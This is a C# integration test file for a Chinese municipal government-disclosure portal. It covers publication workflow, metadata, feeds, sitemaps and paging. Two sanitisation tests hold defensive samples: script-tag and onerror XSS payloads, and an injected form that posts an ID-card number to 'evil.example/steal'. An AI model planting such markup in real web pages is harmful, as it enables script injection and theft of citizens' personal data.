using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Xml.Linq;
using AngleSharp.Dom;
using Microsoft.EntityFrameworkCore;
using Zwgk.Web.Tests.Infrastructure;

namespace Zwgk.Web.Tests;

/// <summary>
/// The public side of documents: the document page, column lists, 法定主动公开内容, 主动公开基本目录, feeds and sitemap
/// show a document only while it is published and proactive, and never show markup an editor or intruder slipped in.
/// </summary>
public sealed class PortalDocumentsTests(ZwgkFactory factory) : IClassFixture<ZwgkFactory>
{
    private const string YantaiOffice = "烟台市人民政府办公室";
    private const string HaiyangOffice = "海阳市人民政府办公室";
    private static readonly XNamespace Atom = "http://www.w3.org/2005/Atom";
    private static readonly XNamespace Sitemap = "http://www.sitemaps.org/schemas/sitemap/0.9";

    private static Dictionary<string, string> Tags(IDocument page) =>
        page.QuerySelectorAll("head meta[name]").ToDictionary(m => m.GetAttribute("name")!, m => m.GetAttribute("content")!);

    [Fact]
    public async Task Seed_document_page_shows_the_eight_metadata_fields_and_the_article_tags()
    {
        var id = await factory.DbAsync(db => db.Documents.Where(d => d.DocumentNumber == "烟政办发〔2020〕17号").Select(d => d.Id).SingleAsync());
        using var browser = new Browser(factory);

        var page = await browser.GetDocumentAsync($"/doc/{id}");

        var meta = page.QuerySelector("[data-testid=doc-meta]")!;
        var fields = meta.QuerySelectorAll("th").ToDictionary(th => th.TextContent.Trim(), th => th.NextElementSibling!.TextContent.Trim());
        foreach (var label in new[] { "索引号", "主题分类", "发文机关", "成文日期", "标题", "发文字号", "发布日期", "有效性" })
        {
            Assert.False(string.IsNullOrWhiteSpace(fields.GetValueOrDefault(label)), $"元数据缺少“{label}”");
        }

        Assert.Equal("烟政办发〔2020〕17号", fields["发文字号"]);
        Assert.Equal("烟台市人民政府办公室", fields["发文机关"]);
        Assert.Equal("2020年8月27日", fields["成文日期"]);
        Assert.Matches(@"^\d{4}年\d{1,2}月\d{1,2}日$", fields["发布日期"]);
        Assert.Equal("综合政务", fields["主题分类"]);
        Assert.Equal("有效", fields["有效性"]);
        Assert.Matches(@"/\d{4}-\d{5}$", fields["索引号"]);
        var title = page.QuerySelector("[data-testid=doc-title]")!.TextContent.Trim();
        Assert.Equal(title, fields["标题"]);
        Assert.Contains("基层政务公开标准化规范化", title);
        Assert.Single(page.QuerySelectorAll("h1"));
        Assert.Equal("（此件公开发布）", page.QuerySelector("[data-testid=doc-attribute]")!.TextContent.Trim());
        Assert.Contains("暂无解读", page.QuerySelector("[data-testid=doc-interpretations]")!.TextContent);
        Assert.Null(page.QuerySelector("[data-testid=validity-banner]"));
        Assert.Null(page.QuerySelector("[data-testid=doc-versions]"));

        var tags = Tags(page);
        Assert.Equal("烟台市人民政府", tags["SiteName"]);
        Assert.Equal("政策文件", tags["ColumnName"]);
        Assert.Equal("政策文件", tags["ColumnType"]);
        Assert.Equal(title, tags["ArticleTitle"]);
        Assert.Matches(@"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$", tags["PubDate"]);
        Assert.Equal("烟台市人民政府办公室", tags["ContentSource"]);
        Assert.Equal("政务公开,标准化,规范化", tags["Keywords"]);
        Assert.EndsWith($"/doc/{id}", tags["Url"]);
        Assert.EndsWith("/feed", page.QuerySelector("head link[rel=alternate][type='application/rss+xml']")!.GetAttribute("href"));
    }

    [Fact]
    public async Task Print_view_has_the_same_content_and_tags_without_navigation()
    {
        var id = await factory.DbAsync(db => db.Documents.Where(d => d.DocumentNumber == "烟政办发〔2020〕17号").Select(d => d.Id).SingleAsync());
        using var browser = new Browser(factory);
        var page = await browser.GetDocumentAsync($"/doc/{id}");
        var printHref = page.QuerySelector("[data-testid=print-link]")!.GetAttribute("href")!;
        Assert.Equal($"/doc/{id}/print", printHref);

        var print = await browser.GetDocumentAsync(printHref);

        Assert.Null(print.QuerySelector(".site-nav"));
        Assert.Null(print.QuerySelector("form"));
        Assert.Single(print.QuerySelectorAll("h1"));
        Assert.Equal(page.QuerySelector("[data-testid=doc-meta]")!.TextContent, print.QuerySelector("[data-testid=doc-meta]")!.TextContent);
        Assert.Equal(page.QuerySelector("[data-testid=doc-body]")!.InnerHtml, print.QuerySelector("[data-testid=doc-body]")!.InnerHtml);
        Assert.Equal("noindex", Tags(print)["robots"]);
        Assert.Equal(Tags(page), Tags(print).Where(t => t.Key != "robots"));
    }

    [Fact]
    public async Task A_document_is_public_only_from_sign_off_until_withdrawal()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var id = await CreateDraftAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", statutoryCategory: "20.4"));

        AssertNowhere(await WhereVisibleAsync(id, "", "20.4"), "草稿");
        Assert.Equal(HttpStatusCode.NotFound, (await factory.CreateClient().GetAsync($"/doc/{id}")).StatusCode);

        Assert.Equal(HttpStatusCode.OK, (await api.PostAsync($"/api/v1/documents/{id}/submit", null)).StatusCode);
        AssertNowhere(await WhereVisibleAsync(id, "", "20.4"), "保密审查中");
        Assert.Equal(HttpStatusCode.OK, (await (await factory.ReviewerAsync()).PostAsJsonAsync($"/api/v1/documents/{id}/confidentiality-review", new { opinion = "不涉密，同意公开。" })).StatusCode);
        AssertNowhere(await WhereVisibleAsync(id, "", "20.4"), "待审签");
        Assert.Equal("Published", await SignOffAsync(api, id));

        var visible = await WhereVisibleAsync(id, "", "20.4");
        Assert.All(visible, v => Assert.True(v.Value, $"发布后应出现在：{v.Key}"));
        Assert.False((await WhereVisibleAsync(id, "/s/haiyang", "20.4")).Values.Any(v => v), "不应出现在其他站点");

        var withdrawn = await api.PostAsJsonAsync($"/api/v1/documents/{id}/withdraw", new { reason = "内容有误，撤回。" });
        Assert.Equal(HttpStatusCode.OK, withdrawn.StatusCode);

        AssertNowhere(await WhereVisibleAsync(id, "", "20.4"), "撤稿后");
        Assert.Equal(HttpStatusCode.NotFound, (await factory.CreateClient().GetAsync($"/doc/{id}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await factory.CreateClient().GetAsync($"/doc/{id}/print")).StatusCode);
    }

    [Fact]
    public async Task An_on_request_document_once_filed_is_never_public()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var input = await InputAsync(YantaiOffice, "yantai", "zcwj", statutoryCategory: "20.4", attribute: "OnRequest");
        var id = await CreateDraftAsync(api, input);
        Assert.Equal(HttpStatusCode.OK, (await api.PostAsync($"/api/v1/documents/{id}/submit", null)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await (await factory.ReviewerAsync()).PostAsJsonAsync($"/api/v1/documents/{id}/confidentiality-review", new { opinion = "同意按依申请公开处理。" })).StatusCode);

        Assert.Equal("Filed", await SignOffAsync(api, id));

        AssertNowhere(await WhereVisibleAsync(id, "", "20.4"), "已归档的依申请公开信息");
        Assert.Equal(HttpStatusCode.NotFound, (await factory.CreateClient().GetAsync($"/doc/{id}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await factory.CreateClient().GetAsync($"/s/yantai/doc/{id}/print")).StatusCode);
    }

    [Fact]
    public async Task A_repealed_document_keeps_its_page_with_a_banner_and_links_both_ways()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var old = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: "旧办法"));
        var replacement = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: "新办法"));

        var declared = await api.PostAsJsonAsync($"/api/v1/documents/{old}/validity",
            new { validity = "Repealed", on = "2026-01-01", reason = "已被新办法代替。", byDocumentId = replacement });
        Assert.Equal(HttpStatusCode.OK, declared.StatusCode);

        using var browser = new Browser(factory);
        var page = await browser.GetDocumentAsync($"/doc/{old}");
        var banner = page.QuerySelector("[data-testid=validity-banner]")!;
        Assert.Equal("status", banner.GetAttribute("role"));
        Assert.Contains("已废止", banner.TextContent);
        Assert.Contains("2026年1月1日", banner.TextContent);
        Assert.Contains("已被新办法代替。", banner.TextContent);
        Assert.Equal($"/doc/{replacement}", banner.QuerySelector("[data-testid=superseded-by]")!.GetAttribute("href"));
        Assert.Equal("废止", page.QuerySelector("[data-testid=meta-validity]")!.TextContent.Trim());
        Assert.Equal("用于测试门户公开的文件。", Tags(page)["Description"]);

        var newer = await browser.GetDocumentAsync($"/doc/{replacement}");
        Assert.Null(newer.QuerySelector("[data-testid=validity-banner]"));
        var supersedes = newer.QuerySelector("[data-testid=doc-supersedes]")!;
        Assert.Contains("本文件废止/修改了", supersedes.TextContent);
        Assert.Contains(supersedes.QuerySelectorAll("a"), a => a.GetAttribute("href") == $"/doc/{old}");
    }

    [Fact]
    public async Task A_corrected_document_shows_its_revision_history()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var input = await InputAsync(YantaiOffice, "yantai", "zcwj", title: "更正测试");
        var id = await PublishAsync(api, input);

        var corrected = await api.PostAsJsonAsync($"/api/v1/documents/{id}/correct",
            new { content = input with { BodyHtml = "<p>更正后的正文。</p>" }, reason = "更正错别字。" });
        Assert.Equal(HttpStatusCode.OK, corrected.StatusCode);
        using var browser = new Browser(factory);
        Assert.DoesNotContain("更正后的正文。", (await browser.GetDocumentAsync($"/doc/{id}")).QuerySelector("[data-testid=doc-body]")!.TextContent, StringComparison.Ordinal);
        (await api.PostAsync($"/api/v1/documents/{id}/correction/submit", null)).EnsureSuccessStatusCode();
        var reviewer = await factory.ReviewerAsync();
        (await reviewer.PostAsJsonAsync($"/api/v1/documents/{id}/correction/confidentiality-review", new { opinion = "不涉密。" })).EnsureSuccessStatusCode();
        Assert.Equal(HttpStatusCode.OK, (await reviewer.PostAsJsonAsync($"/api/v1/documents/{id}/correction/sign-off", new { })).StatusCode);

        var page = await browser.GetDocumentAsync($"/doc/{id}");
        var versions = page.QuerySelector("[data-testid=doc-versions]")!;
        Assert.Equal(2, versions.QuerySelectorAll("tbody tr").Length);
        Assert.Contains("更正错别字。", versions.TextContent);
        Assert.Contains("更正后的正文。", page.QuerySelector("[data-testid=doc-body]")!.TextContent);

        // Through the API too, a flagged expression in a correction is refused at sign-off without a reason, and nothing goes public.
        (await api.PostAsJsonAsync($"/api/v1/documents/{id}/correct",
            new { content = input with { BodyHtml = "<p>经国家工商行政管理总局同意。</p>" }, reason = "补充说明。" })).EnsureSuccessStatusCode();
        (await api.PostAsync($"/api/v1/documents/{id}/correction/submit", null)).EnsureSuccessStatusCode();
        (await reviewer.PostAsJsonAsync($"/api/v1/documents/{id}/correction/confidentiality-review", new { opinion = "不涉密。" })).EnsureSuccessStatusCode();
        var flagged = await reviewer.PostAsJsonAsync($"/api/v1/documents/{id}/correction/sign-off", new { });
        Assert.Equal(HttpStatusCode.UnprocessableEntity, flagged.StatusCode);
        Assert.Contains("疑似错敏表述", await flagged.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain("国家工商行政管理总局", (await browser.GetDocumentAsync($"/doc/{id}")).QuerySelector("[data-testid=doc-body]")!.TextContent, StringComparison.Ordinal);
        var overridden = await reviewer.PostAsJsonAsync($"/api/v1/documents/{id}/correction/sign-off", new { wordingOverrideReason = "引用2017年原文" });
        Assert.Equal(HttpStatusCode.OK, overridden.StatusCode);
    }

    [Fact]
    public async Task Attachments_are_listed_with_download_links_size_and_type()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var id = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: "附件测试"));
        var attachmentId = await factory.DbAsync(async db =>
        {
            var a = new Zwgk.Web.Documents.DocumentAttachment
            {
                DocumentId = id, FileName = "实施方案.pdf", Sha256 = new string('a', 64), Size = 256 * 1024, Extension = ".pdf",
                MimeType = "application/pdf", UploadedAt = DateTime.UtcNow, UploadedBy = "admin",
            };
            db.Add(a);
            await db.SaveChangesAsync();
            return a.Id;
        });

        using var browser = new Browser(factory);
        var attachments = (await browser.GetDocumentAsync($"/s/yantai/doc/{id}")).QuerySelector("[data-testid=doc-attachments]")!;

        var link = attachments.QuerySelector("a")!;
        Assert.Equal($"/s/yantai/doc/{id}/files/{attachmentId}", link.GetAttribute("href"));
        Assert.Equal("实施方案.pdf", link.TextContent);
        Assert.Contains("PDF", attachments.TextContent);
        Assert.Contains("256 KB", attachments.TextContent);
    }

    [Fact]
    public async Task Script_in_the_body_or_title_is_neutralised_even_when_stored_raw()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        const string evilTitle = "通知<script>alert(1)</script>标题";
        const string evilBody = "<p>正文</p><script>alert(1)</script><img src=x onerror=alert(1)>";
        var id = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: evilTitle, body: evilBody));
        // Whatever reaches the database by another route is sanitised again when rendered.
        await factory.DbAsync(db => db.Database.ExecuteSqlAsync($"UPDATE \"Documents\" SET \"BodyHtml\" = {evilBody} WHERE \"Id\" = {id}"));

        foreach (var url in new[] { $"/doc/{id}", $"/doc/{id}/print" })
        {
            var response = await factory.CreateClient().GetAsync(url);
            var html = await response.Content.ReadAsStringAsync();
            var page = await Browser.ParseAsync(response);

            Assert.Empty(page.QuerySelectorAll("script"));
            var body = page.QuerySelector("[data-testid=doc-body]")!;
            Assert.Empty(body.QuerySelectorAll("[onerror]"));
            Assert.Contains("正文", body.TextContent);
            Assert.Contains("<script>", page.QuerySelector("[data-testid=doc-title]")!.TextContent);
            Assert.Contains("&lt;script&gt;", html);
            Assert.DoesNotContain("onerror", html);
            Assert.Contains("<script>", Tags(page)["ArticleTitle"]);
        }

        var feed = XDocument.Parse(await factory.CreateClient().GetStringAsync("/feed"));
        Assert.Contains(feed.Descendants("title"), t => t.Value.StartsWith(evilTitle, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_form_and_its_controls_in_a_body_do_not_survive_saving_or_rendering()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        const string formBody = "<p>正文</p><form action=\"https://evil.example/steal\" method=\"post\"><label>身份证号</label><input name=\"id\">"
            + "<select name=\"s\"><option>一</option></select><textarea name=\"t\">留言</textarea><button formaction=\"https://evil.example/\">提交</button></form>"
            + "<fieldset><legend>问卷</legend><input type=\"checkbox\"></fieldset>";
        var id = await PublishAsync(api, await InputAsync(YantaiOffice, "yantai", "zcwj", title: "表单测试", body: formBody));
        var stored = await factory.DbAsync(db => db.Documents.Where(d => d.Id == id).Select(d => d.BodyHtml).SingleAsync());
        Assert.DoesNotContain("<form", stored, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", stored, StringComparison.Ordinal);
        Assert.Contains("正文", stored);

        // Put back raw, as by a route that skipped the save-time check: rendering sanitises again.
        await factory.DbAsync(db => db.Database.ExecuteSqlAsync($"UPDATE \"Documents\" SET \"BodyHtml\" = {formBody} WHERE \"Id\" = {id}"));
        var page = await Browser.ParseAsync(await factory.CreateClient().GetAsync($"/doc/{id}"));
        var body = page.QuerySelector("[data-testid=doc-body]")!;
        Assert.Empty(body.QuerySelectorAll(string.Join(", ", Zwgk.Web.Documents.DocumentHtml.FormTags)));
        Assert.DoesNotContain("evil.example", body.InnerHtml, StringComparison.Ordinal);
        Assert.Contains("正文", body.TextContent);
    }

    [Fact]
    public async Task A_feed_description_is_the_summary_as_html_escaped_once_for_xml()
    {
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        const string summary = "低保标准 <b>提高</b> 到每月 800 元 & 以上";
        var input = await InputAsync(YantaiOffice, "yantai", "zcwj", title: "摘要转义测试");
        await PublishAsync(api, input with { Summary = summary });

        var rss = await factory.CreateClient().GetStringAsync("/feed/zcwj");
        var item = XDocument.Parse(rss).Descendants("item").Single(i => i.Element("title")!.Value == input.Title);
        // What a reader gets after XML parsing is HTML; shown, that HTML reads exactly as the summary, with no <b> tag.
        var description = item.Element("description")!.Value;
        Assert.Equal(System.Net.WebUtility.HtmlEncode(summary), description);
        Assert.Equal(summary, System.Net.WebUtility.HtmlDecode(description));
        Assert.Contains("&amp;lt;b&amp;gt;", rss, StringComparison.Ordinal);

        var atom = XDocument.Parse(await factory.CreateClient().GetStringAsync("/atom"));
        var entry = atom.Descendants(Atom + "entry").Single(e => e.Element(Atom + "title")!.Value == input.Title);
        var atomSummary = entry.Element(Atom + "summary")!;
        Assert.Equal("html", atomSummary.Attribute("type")!.Value);
        Assert.Equal(summary, System.Net.WebUtility.HtmlDecode(atomSummary.Value));
    }

    [Fact]
    public async Task Feeds_and_sitemaps_are_well_formed_with_absolute_urls()
    {
        var client = factory.CreateClient();
        foreach (var (url, media) in new[]
        {
            ("/feed", "application/rss+xml"), ("/feed/zcwj", "application/rss+xml"), ("/s/haiyang/feed/zcwj", "application/rss+xml"),
            ("/atom", "application/atom+xml"), ("/feed?format=atom", "application/atom+xml"), ("/s/haiyang/atom/zcwj", "application/atom+xml"),
            ("/sitemap.xml", "application/xml"), ("/s/haiyang/sitemap.xml", "application/xml"),
        })
        {
            var response = await client.GetAsync(url);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal(media, response.Content.Headers.ContentType!.MediaType);
            Assert.Equal("utf-8", response.Content.Headers.ContentType.CharSet);
            var xml = XDocument.Parse(await response.Content.ReadAsStringAsync());
            var prefix = url.StartsWith("/s/haiyang", StringComparison.Ordinal) ? "http://localhost/s/haiyang/" : "http://localhost/";
            switch (media)
            {
                case "application/rss+xml":
                    Assert.Equal("2.0", xml.Root!.Attribute("version")!.Value);
                    var items = xml.Descendants("item").ToList();
                    Assert.NotEmpty(items);
                    Assert.All(items, i =>
                    {
                        Assert.False(string.IsNullOrWhiteSpace(i.Element("title")!.Value));
                        Assert.StartsWith(prefix + "doc/", i.Element("link")!.Value);
                        Assert.Equal(i.Element("link")!.Value, i.Element("guid")!.Value);
                        Assert.Matches(@"^(Mon|Tue|Wed|Thu|Fri|Sat|Sun), \d{2} (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) \d{4} \d{2}:\d{2}:\d{2} [+-]\d{4}$", i.Element("pubDate")!.Value);
                        Assert.False(string.IsNullOrWhiteSpace(i.Element("description")!.Value));
                    });
                    break;
                case "application/atom+xml":
                    Assert.Equal(Atom + "feed", xml.Root!.Name);
                    Assert.NotEmpty(xml.Root.Elements(Atom + "entry"));
                    Assert.All(xml.Root.Elements(Atom + "entry"), e => Assert.StartsWith(prefix + "doc/", e.Element(Atom + "id")!.Value));
                    break;
                default:
                    Assert.Equal(Sitemap + "urlset", xml.Root!.Name);
                    var locs = xml.Descendants(Sitemap + "loc").Select(l => l.Value).ToList();
                    Assert.Contains(prefix, locs);
                    Assert.Contains(prefix + "col/xxgk/ml", locs);
                    Assert.Contains(locs, l => l.StartsWith(prefix + "doc/", StringComparison.Ordinal));
                    Assert.All(locs, l => Assert.StartsWith(prefix, l));
                    Assert.All(xml.Descendants(Sitemap + "url").Where(u => u.Element(Sitemap + "loc")!.Value.Contains("/doc/", StringComparison.Ordinal)),
                        u => Assert.Matches(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+08:00$", u.Element(Sitemap + "lastmod")!.Value));
                    break;
            }
        }

        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync("/feed/nope")).StatusCode);
    }

    [Fact]
    public async Task Statutory_content_lists_the_seventeen_categories_with_counts_and_links()
    {
        using var browser = new Browser(factory);
        var page = await browser.GetDocumentAsync("/s/yantai/col/xxgk/fdzdgknr");

        var categories = page.QuerySelectorAll("[data-testid=statutory-categories] > li").ToList();
        Assert.Equal(17, categories.Count);
        var first = categories.Single(c => c.GetAttribute("data-code") == "20.1");
        Assert.Matches(@"（[1-9]\d* 条）", first.QuerySelector("[data-testid=category-count]")!.TextContent);
        var href = first.QuerySelector("a")!.GetAttribute("href")!;
        Assert.Equal("/s/yantai/col/xxgk/fdzdgknr?category=20.1", href);

        var listed = await browser.GetDocumentAsync(href);
        Assert.Single(listed.QuerySelectorAll("h1"));
        Assert.Contains(listed.QuerySelectorAll("[data-testid=column-documents] a"), a => a.TextContent.Contains("烟台市人民政府办公室关于全面推进基层政务公开", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Basic_catalog_filters_by_topic_unit_genre_and_year_and_shows_the_four_items()
    {
        using var browser = new Browser(factory);
        var page = await browser.GetDocumentAsync("/col/xxgk/ml");

        Assert.Equal(["索引号", "名称", "内容概述", "生成日期"], page.QuerySelectorAll("[data-testid=catalog] thead th").Select(th => th.TextContent.Trim()).ToList());
        var row = page.QuerySelectorAll("[data-testid=catalog] tbody tr").First(r => r.TextContent.Contains("烟台市人民政府办公室关于全面推进", StringComparison.Ordinal));
        var cells = row.QuerySelectorAll("td").Select(td => td.TextContent.Trim()).ToList();
        Assert.Matches(@"/\d{4}-\d{5}$", cells[0]);
        Assert.Matches(@"^\d{4}-\d{2}-\d{2}$", cells[3]);
        Assert.InRange(cells[2].Length, 10, BasicCatalogOverviewMax);
        Assert.Contains(page.QuerySelectorAll("#unit option"), o => o.TextContent == YantaiOffice);
        Assert.DoesNotContain(page.QuerySelectorAll("#unit option"), o => o.TextContent == HaiyangOffice);
        Assert.Contains(page.QuerySelectorAll("#year option"), o => o.GetAttribute("value") == "2020");

        // The other regions' documents are reprints (转载), not entries of the city's catalog (ReprintTests).
        var opinions = await browser.GetDocumentAsync("/col/xxgk/ml?genre=" + Uri.EscapeDataString("意见") + "&year=2020");
        var titles = opinions.QuerySelectorAll("[data-testid=catalog] tbody a").Select(a => a.TextContent).ToList();
        Assert.Contains(titles, t => t.Contains("烟台市人民政府办公室", StringComparison.Ordinal));
        Assert.DoesNotContain(titles, t => t.Contains("明溪县", StringComparison.Ordinal));
        Assert.Equal("selected", opinions.QuerySelector("#genre option[value='意见']")!.GetAttribute("selected"));
        var notices = await browser.GetDocumentAsync("/col/xxgk/ml?genre=" + Uri.EscapeDataString("通知"));
        Assert.DoesNotContain(notices.QuerySelectorAll("[data-testid=catalog] tbody a"), a => a.TextContent.Contains("厦门市", StringComparison.Ordinal));

        var none = await browser.GetDocumentAsync("/col/xxgk/ml?topic=" + Uri.EscapeDataString("国防"));
        Assert.Empty(none.QuerySelectorAll("[data-testid=catalog] tbody tr"));
        Assert.Contains("共 0 条", none.QuerySelector("[data-testid=catalog-count]")!.TextContent);

        var unknown = await browser.GetDocumentAsync("/col/xxgk/ml?year=abc&unit=999999&topic=x");
        Assert.NotEmpty(unknown.QuerySelectorAll("[data-testid=catalog] tbody tr"));
    }

    [Fact]
    public async Task Column_lists_page_twenty_at_a_time_newest_first_and_keep_the_site_prefix()
    {
        // 办事服务: a column the demo data leaves empty, so the 21 are all it holds.
        using var api = factory.WithToken(DemoAccounts.AdminToken);
        var ids = new List<int>();
        for (var i = 0; i < 21; i++)
        {
            ids.Add(await PublishAsync(api, await InputAsync(HaiyangOffice, "haiyang", "bsfw", title: $"工作动态{i:00}", genre: "要点")));
        }

        using var browser = new Browser(factory);
        var first = await browser.GetDocumentAsync("/s/haiyang/col/bsfw");
        var links = first.QuerySelectorAll("[data-testid=column-documents] a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(20, links.Count);
        Assert.Equal($"/s/haiyang/doc/{ids[^1]}", links[0]);
        Assert.Null(first.QuerySelector("[data-testid=column-empty]"));
        var next = first.QuerySelector("[data-testid=pager-next]")!.GetAttribute("href");
        Assert.Equal("/s/haiyang/col/bsfw?page=2", next);

        var second = await browser.GetDocumentAsync(next!);
        Assert.Equal([$"/s/haiyang/doc/{ids[0]}"], second.QuerySelectorAll("[data-testid=column-documents] a").Select(a => a.GetAttribute("href")).ToList());
        Assert.Null(second.QuerySelector("[data-testid=pager-next]"));
        Assert.Equal("/s/haiyang/col/bsfw", second.QuerySelector("[data-testid=pager-prev]")!.GetAttribute("href"));

        // The catalog pages too, and its pager keeps the filter.
        var catalog = await browser.GetDocumentAsync("/s/haiyang/col/xxgk/ml?genre=" + Uri.EscapeDataString("要点"));
        Assert.Equal(20, catalog.QuerySelectorAll("[data-testid=catalog] tbody tr").Length);
        var catalogNext = catalog.QuerySelector("[data-testid=pager-next]")!.GetAttribute("href")!;
        Assert.StartsWith("/s/haiyang/col/xxgk/ml?", catalogNext);
        Assert.Contains("genre=" + Uri.EscapeDataString("要点"), catalogNext);
        Assert.Contains("page=2", catalogNext);
        Assert.Single((await browser.GetDocumentAsync(catalogNext)).QuerySelectorAll("[data-testid=catalog] tbody tr"));

        var feed = XDocument.Parse(await factory.CreateClient().GetStringAsync("/s/haiyang/feed/bsfw"));
        Assert.Equal(21, feed.Descendants("item").Count());
    }

    [Fact]
    public async Task Empty_column_text_only_when_there_is_nothing_to_show()
    {
        using var browser = new Browser(factory);
        Assert.NotNull((await browser.GetDocumentAsync("/s/laiyang/col/zcjd")).QuerySelector("[data-testid=column-empty]"));
        Assert.Null((await browser.GetDocumentAsync("/col/zcwj")).QuerySelector("[data-testid=column-empty]"));
        Assert.Null((await browser.GetDocumentAsync("/col/xxgk/ml")).QuerySelector("[data-testid=column-empty]"));
        Assert.Null((await browser.GetDocumentAsync("/col/xxgk/fdzdgknr")).QuerySelector("[data-testid=column-empty]"));
    }

    [Fact]
    public async Task New_pages_have_one_h1_and_labelled_form_controls()
    {
        var id = await factory.DbAsync(db => db.Documents.Where(d => d.DocumentNumber == "烟政办发〔2020〕17号").Select(d => d.Id).SingleAsync());
        using var browser = new Browser(factory);
        foreach (var url in new[] { $"/doc/{id}", $"/doc/{id}/print", "/col/zcwj", "/col/xxgk/fdzdgknr", "/col/xxgk/fdzdgknr?category=20.15", "/col/xxgk/ml", "/col/xxgk/ml?topic=" + Uri.EscapeDataString("综合政务") })
        {
            var page = await browser.GetDocumentAsync(url);
            Assert.True(page.QuerySelectorAll("h1").Length == 1, $"{url} 应恰有一个 h1");
            foreach (var control in page.QuerySelectorAll("input:not([type=hidden]):not([type=submit]), select, textarea"))
            {
                var controlId = control.GetAttribute("id");
                var labelled = control.HasAttribute("aria-label") || (controlId is not null && page.QuerySelector($"label[for='{controlId}']") is not null);
                Assert.True(labelled, $"{url} 的 {control.OuterHtml} 没有标签");
            }

            Assert.Equal("zh-CN", page.DocumentElement.GetAttribute("lang"));
            if (!url.EndsWith("/print", StringComparison.Ordinal))
            {
                Assert.NotNull(page.QuerySelector("head link[rel=alternate]"));
            }
        }
    }

    private const int BasicCatalogOverviewMax = Zwgk.Web.Portal.BasicCatalog.OverviewLength + 1;

    /// <summary>Where a document shows up on a site (prefix "" for the default city site, "/s/haiyang" …).</summary>
    private async Task<Dictionary<string, bool>> WhereVisibleAsync(int id, string prefix, string statutoryCategory)
    {
        var client = factory.CreateClient();
        var href = $"{prefix}/doc/{id}";
        var absolute = $"http://localhost{href}";

        async Task<bool> ListedAsync(string url, string selector)
        {
            var page = await Browser.ParseAsync(await client.GetAsync(url));
            return page.QuerySelectorAll(selector).Any(a => a.GetAttribute("href") == href);
        }

        async Task<XDocument> XmlAsync(string url) => XDocument.Parse(await client.GetStringAsync(url));

        return new Dictionary<string, bool>
        {
            ["文件页"] = (await client.GetAsync(href)).StatusCode == HttpStatusCode.OK,
            ["打印页"] = (await client.GetAsync(href + "/print")).StatusCode == HttpStatusCode.OK,
            ["栏目列表"] = await ListedAsync($"{prefix}/col/zcwj", "[data-testid=column-documents] a"),
            ["法定主动公开内容"] = await ListedAsync($"{prefix}/col/xxgk/fdzdgknr?category={statutoryCategory}", "[data-testid=column-documents] a"),
            ["主动公开基本目录"] = await ListedAsync($"{prefix}/col/xxgk/ml", "[data-testid=catalog] a"),
            ["站点 RSS"] = (await XmlAsync($"{prefix}/feed")).Descendants("link").Any(l => l.Value == absolute),
            ["栏目 RSS"] = (await XmlAsync($"{prefix}/feed/zcwj")).Descendants("link").Any(l => l.Value == absolute),
            ["Atom"] = (await XmlAsync($"{prefix}/atom")).Descendants(Atom + "id").Any(l => l.Value == absolute),
            ["站点地图"] = (await XmlAsync($"{prefix}/sitemap.xml")).Descendants(Sitemap + "loc").Any(l => l.Value == absolute),
        };
    }

    private static void AssertNowhere(Dictionary<string, bool> visible, string stage) =>
        Assert.All(visible, v => Assert.False(v.Value, $"{stage}不应出现在：{v.Key}"));

    private async Task<DocumentJson> InputAsync(
        string unitName, string siteCode, string columnSlug, string? title = null, string? body = null, string? statutoryCategory = "20.15",
        string attribute = "Proactive", string genre = "通知")
    {
        var unitId = await factory.DbAsync(db => db.Organizations.Where(o => o.Name == unitName).Select(o => o.Id).SingleAsync());
        var columnId = await factory.DbAsync(db => db.Columns.Where(c => c.Site!.Code == siteCode && c.SlugPath == columnSlug).Select(c => c.Id).SingleAsync());
        var proactive = attribute == "Proactive";
        return new DocumentJson(
            unitId, columnId, (title ?? "测试文件") + "（" + Guid.NewGuid().ToString("N")[..6] + "）", null, "2026-11-01", [unitName], genre, ["综合政务"],
            statutoryCategory, "测试", "用于测试门户公开的文件。", body ?? "<p>这是测试正文。</p>", attribute,
            proactive ? null : "InternalAffairs", proactive ? null : "属于内部事务信息，依据条例第十六条第一款不予主动公开。");
    }

    private static async Task<int> CreateDraftAsync(HttpClient api, DocumentJson input)
    {
        var response = await api.PostAsJsonAsync("/api/v1/documents", input);
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt32();
    }

    private async Task<string> SignOffAsync(HttpClient api, int id)
    {
        var response = await (await factory.ReviewerAsync()).PostAsJsonAsync($"/api/v1/documents/{id}/sign-off", new { wordingOverrideReason = "测试数据" });
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("state").GetString()!;
    }

    private async Task<int> PublishAsync(HttpClient api, DocumentJson input)
    {
        var id = await CreateDraftAsync(api, input);
